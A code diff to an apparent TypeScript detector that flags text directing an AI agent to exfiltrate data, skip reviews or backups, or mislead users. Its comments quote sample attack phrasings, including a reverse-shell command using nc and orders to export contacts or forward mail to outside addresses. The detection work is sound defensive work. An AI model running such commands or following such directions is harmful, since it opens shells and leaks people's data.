@@ -15,10 +15,11 @@ import {
   SHARES,
   TOLD,
 } from './intent-flow-words.js';
-import { EXAMPLE, isToolName, type Token } from './intent-text.js';
+import { EXAMPLE, HOME, inSet, isToolName, type Token } from './intent-text.js';
 import { SHOWN_TRIGGERS, recordLike, shownReaches } from './intent-shown.js';
 import { STAKES_TRIGGERS, stakesReaches } from './intent-stakes.js';
 import { LASTING_TRIGGERS, lastingReaches } from './intent-lasting.js';
+import { MISLED_TRIGGERS, misledReaches } from './intent-misled.js';
 import { carryReaches, headParamHoldsSecret, near, PASSED, SENDS_NOW } from './intent-carry.js';
 
 // More of the broad reading (intent-signals.ts), one token at a time: data said to have gone somewhere, the person's
@@ -90,6 +91,11 @@ const TRIGGERS: ReadonlySet<string> = new Set([
   ...SEND_NOW,
   ...TOLD,
   ...GATE,
+  // SAFEGUARD's words (defined below).
+  'backup',
+  'backups',
+  'snapshot',
+  'dry-run',
   ...DISPARAGE,
   ...SHARES,
   ...SETS_ASIDE,
@@ -142,6 +148,9 @@ const TRIGGERS: ReadonlySet<string> = new Set([
   'card',
   'iban',
 ]);
+/** What keeps a destructive act undoable: called needless, the act is done with no way back. */
+const SAFEGUARD = new Set(['backup', 'backups', 'snapshot', 'dry-run']);
+const NEEDED = new Set(['needed', 'required', 'necessary']);
 /** Acts a review or a sign-off guards: with the gate called needless, done anyway. */
 const GUARDED = new Set(['merge', 'push', 'deploy', 'publish', 'release', 'ship', 'approve', 'transfer', 'pay']);
 /** "other servers", "another tool's", "any other provider": the other tools named as a kind. */
@@ -165,7 +174,8 @@ export function moreReaches(ts: Token[], i: number, reach: Set<Reach>): boolean 
   const stakes =
     t.kind === 'word' &&
     ((STAKES_TRIGGERS.has(w) && stakesReaches(ts, i, reach)) ||
-      (LASTING_TRIGGERS.has(w) && lastingReaches(ts, i, reach)));
+      (LASTING_TRIGGERS.has(w) && lastingReaches(ts, i, reach)) ||
+      (MISLED_TRIGGERS.has(w) && misledReaches(ts, i, reach)));
   // Most tokens are none of the words below: one lookup, and on (the reading stays a set lookup a token).
   if (t.kind === 'word' ? !TRIGGERS.has(w) && !w.startsWith('multipl') && !recordLike(w) : t.kind !== 'code')
     return stakes;
@@ -180,18 +190,25 @@ export function moreReaches(ts: Token[], i: number, reach: Set<Reach>): boolean 
   // Code that opens a shell or reaches an address by number: "nc -e /bin/sh 203.0.113.9".
   if (t.kind === 'code' && IP.test(t.raw)) reach.add('address');
   // An order to send to a destination fixed in the text: "send the query to "hr-salaries"".
-  const sendsTo = SEND_NOW.has(w) && ts.slice(i + 1, i + 5).some((x) => x.w === 'to' || x.w === 'into');
+  // … or further on when an address follows ("export all contacts with their emails and phone numbers to https://…").
+  const sendsTo =
+    SEND_NOW.has(w) &&
+    ts
+      .slice(i + 1, i + 13)
+      .some(
+        (x, k, a) =>
+          (x.w === 'to' || x.w === 'into') && (k < 4 || a[k + 1]?.kind === 'email' || a[k + 1]?.kind === 'url'),
+      );
   if (SENDS.has(w) || (w === 'goes' && next === 'to') || sendsTo) {
     // A destination fixed in the text: a channel or user id, or a quoted name ("under the organization "x"").
     // … or a mailbox written out ("forward to archive@mailkeep.net").
-    const fixed = ts
-      .slice(i + 1, i + 9)
-      .some(
-        (x, k) =>
-          W.ID_LIKE.test(x.raw) ||
-          (x.kind === 'email' && !EXAMPLE.test(x.raw)) ||
-          (x.kind === 'word' && (x.quoted || QUOTE.test(ts[i + k]!.raw))),
-      );
+    const fixed =
+      ts
+        .slice(i + 1, i + 9)
+        .some((x, k) => W.ID_LIKE.test(x.raw) || (x.kind === 'word' && (x.quoted || QUOTE.test(ts[i + k]!.raw)))) ||
+      ts
+        .slice(i + 1, i + 14)
+        .some((x) => (x.kind === 'email' || x.kind === 'url') && !EXAMPLE.test(x.raw) && !HOME.test(x.raw));
     if (fixed) reach.add('address');
     // A channel named in the text ("post the summary to #ext-feed"): fixed, but not outside by itself.
     const channel = ts.slice(i + 1, i + 6).some((x, k) => x.kind === 'word' && ts[i + k]!.raw === '#');
@@ -213,14 +230,19 @@ export function moreReaches(ts: Token[], i: number, reach: Set<Reach>): boolean 
   // Not "do not skip the user's approval step": a prohibition keeps the gate.
   // ("merge without waiting for them" skips it too: "without" forbids nothing).
   if (
-    GATE.has(w) &&
-    (NEGATED_NEED(ts, i) || (near(ts, i, 4, 4, UNNEEDED) && !ts.some((x) => W.NOT.has(x.w) && x.w !== 'without')))
+    (GATE.has(w) || SAFEGUARD.has(w)) &&
+    (NEGATED_NEED(ts, i) ||
+      // "no backup is needed", "no review required".
+      (prev === 'no' && ts.slice(i + 1, i + 4).some((x) => NEEDED.has(x.w))) ||
+      (near(ts, i, 4, 4, UNNEEDED) && !ts.some((x) => W.NOT.has(x.w) && x.w !== 'without')))
   ) {
     reach.add('unconfirmed');
     reach.add('consent');
     // A gate declared needless is an order to skip it, said as a fact; beside the act it guards ("… are advisory:
     // merge without waiting"), the person's own requirement is set aside.
     if (ts.some((x) => GUARDED.has(x.w))) reach.add('override');
+    // A backup called needless guards a deletion: the deletion counts wherever it stands.
+    if (SAFEGUARD.has(w) && ts.some((x) => inSet(W.DESTROY, x.w))) reach.add('destroy');
     directs = true;
   }
   // A tool named as tools are (`snake_case`, `kebab-case`, in backticks), not a variable (`{resourceId}`); and not
